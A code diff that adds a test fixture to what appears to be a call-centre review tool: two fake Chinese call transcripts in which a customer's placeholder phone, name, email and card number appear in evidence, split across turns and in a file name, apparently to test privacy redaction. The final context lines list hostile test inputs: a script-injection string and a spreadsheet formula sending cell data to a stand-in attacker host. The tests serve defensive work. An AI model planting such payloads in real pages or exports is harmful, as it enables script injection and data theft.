@@ -311,6 +311,57 @@ def empty(folder: Path) -> Store:
     return store
 
 
+PRIVATE = ("13800138000", "张建国", "wangfang@example.com", "6222021234567890123")
+
+
+def personal(folder: Path, *, audio: bool = False) -> Store:
+    """Two calls in which a customer gives away who they are: inside the evidence, beside it, dictated over turns, in a file's name."""
+    phone, name, mail, card = PRIVATE
+    store = Store(folder / "store")
+    rules = pack()
+    save(store, rules)
+    base = {"pack_id": rules.id, "pack_version": rules.version, "pack_sha256": rules.sha256, "pack_signer": "local"}
+    stories = [
+        [
+            ("agent", f"您的电话是{phone}对吗，我们会尽快回复{phone}这个号码。", 800),
+            ("customer", f"对，我叫{name}，邮箱是{mail}。", 500),
+            ("agent", "好的，再见。", 500),
+        ],
+        [
+            ("customer", f"卡号是{card}。", 800),
+            ("agent", "我们会尽快处理。", 500),
+            ("customer", "电话一三八", 500),
+            ("agent", "嗯", 300),
+            ("customer", "零零一三八零零零", 300),
+        ],
+    ]
+    calls, transcripts, findings = [], [], []
+    for n, story in enumerate(stories):
+        call_id = f"p{n}"
+        turns = turns_of(story)
+        words = f"尽快回复{phone}" if n == 0 else "尽快"
+        hit = {
+            "rule": "promise-without-time",
+            "verdict": "hit",
+            "severity": "medium",
+            "count": 1,
+            "evidence": evidence_of(turns, words),
+        }
+        call = {"call_id": call_id, "file": f"{phone}.wav", "listed": True, "found": True, "provider": "甲", "agent_id": "1"}
+        transcript = _transcript(call_id, turns)
+        if audio:
+            path = folder / "recordings" / f"{call_id}.wav"
+            transcript["audio_sha256"] = write_wav(path, transcript["duration_ms"])
+            call["path"] = str(path)
+        calls.append(call)
+        transcripts.append(transcript)
+        findings.append({"call_id": call_id, **base, "status": "ok", "hits": 1, "undecided": 0, "verdicts": [hit]})
+    for table, rows in (("calls", calls), ("transcripts", transcripts), ("findings", findings)):
+        store.append(table, rows)
+    score(store)
+    return store
+
+
 EVIL = (
     "<script>alert(1)</script>",
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
